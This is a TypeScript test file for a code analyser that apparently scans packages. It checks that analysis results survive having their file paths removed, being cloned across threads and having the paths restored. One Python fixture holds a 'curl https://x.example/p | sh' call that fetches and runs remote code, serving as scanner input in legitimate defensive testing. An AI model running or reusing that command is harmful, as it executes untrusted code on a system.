import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeBatch, type BatchFile } from './batch.ts';
import { relocate, unlocate } from './crossing.ts';

const files: BatchFile[] = [
  {
    index: 0,
    path: 'pkg/a.py',
    language: 'python',
    data: Buffer.from('import os\nos.system("curl https://x.example/p | sh")\nz = "é" + "x"\n'),
  },
  { index: 1, path: 'pkg/b.js', language: 'javascript', data: Buffer.from('fetch("https://y.example/");\n') },
  { index: 2, path: 'pkg/data.txt', language: null, data: Buffer.from('see https://z.example/doc\n') },
  { index: 3, path: 'pkg/broken.py', language: 'python', data: Buffer.from('def f(:\n  os.system(\n') },
];

describe('results crossing between threads', () => {
  it('come back identical after the paths are left out, cloned and written back', async () => {
    const expected = await analyzeBatch({ files, options: {} });
    const sent = unlocate(await analyzeBatch({ files, options: {} }), files);
    assert.ok(sent.some((result) => result.unlocated === true));
    const crossed = structuredClone(sent);
    assert.ok(!JSON.stringify(crossed).includes('pkg/'), 'no path crosses');
    assert.deepStrictEqual(relocate(crossed, files), expected);
  });

  it('leave a result with another path inside as it is', async () => {
    const [result] = await analyzeBatch({ files: [files[0]!], options: {} });
    assert.ok(result?.facts !== undefined && result.facts.calls.length > 0);
    const odd = { ...result, problems: [{ file: 'elsewhere.py', kind: 'capped' as const, message: 'x' }] };
    const [sent] = unlocate([odd], files);
    assert.equal(sent?.unlocated, undefined);
    assert.equal(sent?.facts?.calls[0]?.file, 'pkg/a.py');
    assert.deepStrictEqual(relocate([sent!], files), [odd]);
  });

  it('refuse a blanked result for a file that was not sent', () => {
    assert.throws(() => relocate([{ index: 9, problems: [], urls: [], unlocated: true }], files), /index 9/);
  });
});
